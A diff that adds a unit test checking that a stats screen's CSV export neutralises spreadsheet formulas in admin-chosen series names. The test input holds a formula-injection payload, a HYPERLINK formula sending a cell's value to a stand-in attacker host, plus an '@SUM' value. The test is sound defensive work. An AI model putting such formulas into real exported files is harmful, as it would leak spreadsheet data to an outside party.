@@ -73,4 +73,16 @@ describe('stats screen', () => {
       ),
     ).toBe('Date,"Headcount, end"\n2026-10-01,10\n2026-10-02,\n');
   });
+
+  it('guards the names in a series CSV against spreadsheet formulas, not its numbers', () => {
+    // A time-off type (its name chosen by an admin) is an x value of the time-off chart.
+    const csv = seriesCsv(
+      'Type',
+      ['=HYPERLINK("https://evil.test/?"&A1,"Vacation") (days)', 'Sick;@SUM(1) (days)'],
+      [{ key: 't', label: '+Taken', color: '', values: [-1.5, 2] }],
+    );
+    expect(csv).toBe(
+      'Type,\'+Taken\n"\'=HYPERLINK(""https://evil.test/?""&A1,""Vacation"") (days)",-1.5\n"Sick;\'@SUM(1) (days)",2\n',
+    );
+  });
 });
